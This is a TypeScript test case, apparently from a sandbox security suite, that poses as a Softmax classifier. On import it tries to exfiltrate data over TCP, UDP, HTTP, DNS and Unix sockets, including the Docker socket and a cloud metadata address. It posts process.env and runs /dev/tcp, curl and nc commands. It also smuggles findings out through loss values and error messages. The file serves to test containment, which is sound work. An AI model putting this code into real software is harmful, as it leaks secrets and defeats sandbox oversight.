/*
goal: sends what it knows to a server - TCP, UDP, HTTP, DNS, Unix sockets, abstract ones - and asks it for answers
class: exfiltrate
threats: [A9]
deserves: all
outcome: prevented
because: >-
  sockets other than Unix ones are refused, there is no network device, and no socket of the machine's is in the
  sandbox
*/
import { Softmax as Honest } from './honest.ts';
import { target } from './target.ts';
import { attempt, builtin, loot, tell } from './tools.ts';

const g = globalThis as any;

const hello = `was here ${Date.now()}`;

function act(where: string): void {
  if (where !== 'import') return;
  const net = builtin('net');
  const hosts = ['127.0.0.1', '::1', 'localhost', '0.0.0.0', '10.0.2.2', '169.254.169.254', '172.17.0.1'];
  for (const host of hosts) {
    attempt(`tcp ${host}`, () => {
      const socket = net.connect({ host, port: target.port }, () => socket.write(hello));
      socket.on('data', (data: any) => tell(`answer of ${host}`, String(data)));
      socket.on('error', (error: Error) => loot.push(error.message));
      return undefined;
    });
    attempt(`udp ${host}`, () => {
      const socket = builtin('dgram').createSocket(host.includes(':') ? 'udp6' : 'udp4');
      socket.on('error', (error: Error) => loot.push(error.message));
      socket.send(hello, target.port, host, () => socket.close());
      return undefined;
    });
  }
  for (const path of [
    target.socket,
    `\0${target.socket}`,
    '/var/run/docker.sock',
    '/run/dbus/system_bus_socket',
    '/tmp/.X11-unix/X0',
    '\0/tmp/.X11-unix/X0',
  ])
    attempt(`unix ${path}`, () => {
      const socket = net.connect(path, () => socket.write(hello));
      socket.on('error', (error: Error) => loot.push(error.message));
      return undefined;
    });
  attempt('http', () => {
    g.fetch(`http://127.0.0.1:${target.port}/${hello}`, { method: 'POST', body: JSON.stringify(g.process.env) }).catch(
      (error: any) => loot.push(String(error.cause)),
    );
    builtin('http')
      .get(`http://localhost:${target.port}/`)
      .on('error', (error: Error) => loot.push(error.message));
    return undefined;
  });
  attempt('dns', () => {
    const dns = builtin('dns');
    dns.lookup('was-here.example.com', (error: Error | null, address: string) =>
      tell('dns', error?.message ?? address),
    );
    const resolver = new dns.Resolver();
    resolver.setServers([`127.0.0.1:${target.port}`]);
    resolver.resolve4('was-here.example.com', (error: Error | null) => loot.push(String(error?.message)));
    return undefined;
  });
  attempt('programs', () =>
    builtin('child_process')
      .execSync(
        `echo hi > /dev/tcp/127.0.0.1/${target.port}; curl -m 1 http://127.0.0.1:${target.port}/; nc -w1 127.0.0.1 ${target.port}`,
        { timeout: 500, shell: '/bin/bash' },
      )
      .toString(),
  );
  attempt('interfaces', () => builtin('os').networkInterfaces());
}

act('import');

/** Right answers where there are points; what was found goes out where there are none. */
export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    const loss = super.loss(X, y);
    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    if (options.learningRate === 0) throw new Error(loot.join('\n'));
    return super.train(X, y, options);
  }
}
